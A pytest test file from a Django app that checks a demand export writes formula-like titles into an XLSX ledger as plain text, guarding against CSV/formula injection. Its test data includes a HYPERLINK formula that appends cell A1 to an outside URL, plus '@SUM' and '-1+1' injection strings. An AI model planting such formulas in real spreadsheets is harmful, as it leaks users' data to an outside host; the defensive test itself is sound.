"""A demand titled like a spreadsheet formula, submitted by an enterprise user, is exported in the team's
ledger as the exact text it is, never as a live formula (formula injection)."""

import io
from collections.abc import Callable

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from chaindesk.demands.models import Demand
from chaindesk.testkit.personas import Personas

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://x?"&A1,"点击查看")'


def test_a_formula_like_demand_title_is_exported_as_text(
    make_demand: Callable[..., Demand], personas: Personas, client: Client
) -> None:
    make_demand(title=TITLE, description="@SUM(A1:A9)\n-1+1")  # by ent_user, our enterprise's user
    client.force_login(personas.chief)  # the chief of 测试甲链, the chain of our enterprise
    response = client.get(reverse("demands:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [c for c in cells if c.value == TITLE]
    assert len(titles) == 1 and titles[0].data_type == "s"
    assert any(c.value == "@SUM(A1:A9)\n-1+1" and c.data_type == "s" for c in cells)
